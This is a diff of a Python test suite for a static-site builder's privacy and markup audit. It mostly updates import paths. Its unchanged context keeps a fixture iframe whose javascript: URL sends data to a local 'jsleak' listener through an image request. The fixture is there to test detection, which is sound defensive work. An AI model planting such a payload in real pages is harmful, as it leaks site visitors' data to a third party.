@@ -31,10 +31,12 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from unit_helpers import write_site
 
-from ivsite import auditmarkup, bodyprivacy, validate
+from ivsite.audit import markupchecks as auditmarkup
+from ivsite.markup.referrers import SAFE_POLICIES
+from ivsite.markup.scripturls import script_urls
 from ivsite.pipeline import Result, build
-from ivsite.referrers import SAFE_POLICIES
-from ivsite.scripturls import script_urls
+from ivsite.validate import bodyprivacy
+from ivsite.validate import note as validate
 
 SHARING = 'title = "Site"\nbase_url = "https://example.org/"\n\n[share]\nenabled = true\n'
 K1_IFRAME = ("<iframe src=\"javascript:void(new Image().src='http://localhost:9999/jsleak?u='"
@@ -299,7 +301,7 @@ def reproducer(root: Path) -> Path:
 
 def _audit_off(monkeypatch: pytest.MonkeyPatch) -> None:
     """The audit's own reading of script addresses and referrer policies (the second
-    line, ivsite.auditmarkup) off as well."""
+    line, ivsite.audit.markupchecks) off as well."""
     monkeypatch.setattr(auditmarkup, "unsafe_markup", lambda page, own: [])
 
 
